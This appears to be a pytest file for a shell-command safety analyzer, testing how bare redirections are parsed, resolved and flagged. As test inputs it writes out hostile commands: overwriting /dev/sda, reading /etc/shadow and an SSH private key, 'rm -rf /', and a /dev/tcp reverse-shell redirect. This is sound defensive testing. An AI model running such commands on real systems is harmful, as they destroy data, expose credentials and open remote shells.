"""Statements made only of redirections (``> /dev/sda``): recorded as the no-op ``:``."""

from __future__ import annotations

import pytest
from shell_helpers import Analyze, kinds, programs

from superego_mcp.shell.model import REVERSE_SHELL, UNPARSEABLE, Command


def bare(commands: tuple[Command, ...]) -> list[Command]:
    """The commands recorded for bare redirections (program ``:`` not written as such)."""
    return [c for c in commands if c.program == ":" and c.program_path == ""]


@pytest.mark.parametrize(
    ("line", "op", "target"),
    [
        ("> /dev/sda", ">", "/dev/sda"),
        (">/dev/sda", ">", "/dev/sda"),
        (">> /etc/profile", ">>", "/etc/profile"),
        ("&> /dev/sdb", "&>", "/dev/sdb"),
        (">| /dev/vda", ">|", "/dev/vda"),
        ("< /etc/shadow", "<", "/etc/shadow"),
    ],
)
def test_bare_redirect_is_the_no_op_with_its_target(
    run: Analyze, line: str, op: str, target: str
) -> None:
    a = run(line)
    assert not a.failed
    [cmd] = a.commands
    assert (cmd.program, cmd.program_path, cmd.argv) == (":", "", ())
    assert [(r.op, r.target) for r in cmd.redirects] == [(op, target)]
    assert cmd.paths == (target,)
    assert cmd.text == line
    assert not cmd.dynamic


def test_targets_resolve_like_any_redirect(run: Analyze, dirs: tuple[str, str]) -> None:
    cwd, home = dirs
    a = run(">> ~/.bashrc; > build/log.txt; cd /tmp && > x")
    assert [c.paths for c in a.commands if c.program == ":"] == [
        (f"{home}/.bashrc",),
        (f"{cwd}/build/log.txt",),
        ("/tmp/x",),
    ]
    assert [r.writes for c in bare(a.commands) for r in c.redirects] == [True, True, True]


def test_every_redirect_of_the_statement_is_kept(run: Analyze, dirs: tuple[str, str]) -> None:
    cwd, _ = dirs
    [cmd] = run("2>/dev/null > a <<< hi").commands
    assert [r.op for r in cmd.redirects] == [">", ">", "<<<"]
    assert cmd.paths == ("/dev/null", f"{cwd}/a")


@pytest.mark.parametrize(
    ("line", "others", "via"),
    [
        ("cat x | > /dev/sda", ["cat"], ()),
        ("> /dev/sda | cat", ["cat"], ()),
        ("ls && > /dev/sda", ["ls"], ()),
        ("{ > /dev/sda; }", [], ()),
        ("(> /dev/sda)", [], ()),
        ("if > /dev/sda; then echo; fi", ["echo"], ()),
        ("echo $( > /dev/sda)", ["echo"], ("$()",)),
        ('echo "$(>/dev/sda)"', ["echo"], ("$()",)),
        ("echo $(> /dev/sda 2>&1)", ["echo"], ("$()",)),
        ("cat <(> /dev/sda)", ["cat"], ("<()",)),
        ("bash -c '> /dev/sda'", ["bash"], ("bash -c",)),
        ("eval '> /dev/sda'", ["eval"], ("eval",)),
        ("x=; $x > /dev/sda", [], ()),
    ],
)
def test_bare_redirect_found_anywhere(
    run: Analyze, line: str, others: list[str], via: tuple[str, ...]
) -> None:
    a = run(line)
    assert not a.failed
    [cmd] = bare(a.commands)
    assert "/dev/sda" in cmd.paths
    assert cmd.via == via
    assert [p for p in programs(a) if p != ":"] == others


def test_read_substitution_names_the_file(run: Analyze, dirs: tuple[str, str]) -> None:
    _, home = dirs
    a = run('echo "$(< ~/.ssh/id_rsa)"')
    [cmd] = bare(a.commands)
    assert [(r.op, r.target, r.writes) for r in cmd.redirects] == [
        ("<", f"{home}/.ssh/id_rsa", False)
    ]


def test_substitution_in_the_target_is_walked(run: Analyze) -> None:
    a = run("> $(rm -rf /)")
    assert programs(a) == ["rm", ":"]
    assert a.commands[0].via == ("$()",)
    assert a.commands[1].dynamic  # the file written is only known at run time


@pytest.mark.parametrize("line", ['> "$out"', 'cd "$d" && > x', '> ""'])
def test_unknown_write_target_is_dynamic(run: Analyze, line: str) -> None:
    [cmd] = bare(run(line).commands)
    assert cmd.dynamic
    assert [(r.target, r.writes) for r in cmd.redirects] == [(None, True)]
    assert cmd.paths == ()


def test_unresolvable_target_of_a_command_is_kept_as_unknown(run: Analyze) -> None:
    # Before, a relative redirect after an unknown `cd` vanished: `echo` looked harmless.
    a = run('cd "$d"; echo hi > .bashrc')
    [echo] = [c for c in a.commands if c.program == "echo"]
    assert echo.dynamic
    assert [(r.target, r.writes) for r in echo.redirects] == [(None, True)]


def test_fd_copy_alone_has_no_path(run: Analyze) -> None:
    [cmd] = run("2>&1").commands
    assert cmd.paths == ()
    assert not cmd.dynamic


def test_bare_redirect_to_dev_tcp_is_a_reverse_shell(run: Analyze) -> None:
    a = run("> /dev/tcp/10.0.0.1/4444")
    assert REVERSE_SHELL in kinds(a)
    assert bare(a.commands)


def test_written_no_op_keeps_its_program_path(run: Analyze) -> None:
    [cmd] = run(": > out.txt").commands
    assert (cmd.program, cmd.program_path) == (":", ":")


def test_read_write_redirect_fails_closed(run: Analyze) -> None:
    # tree-sitter-bash does not know `<>`: the line is refused, never passed as harmless.
    assert UNPARSEABLE in kinds(run("<> /dev/sda"))
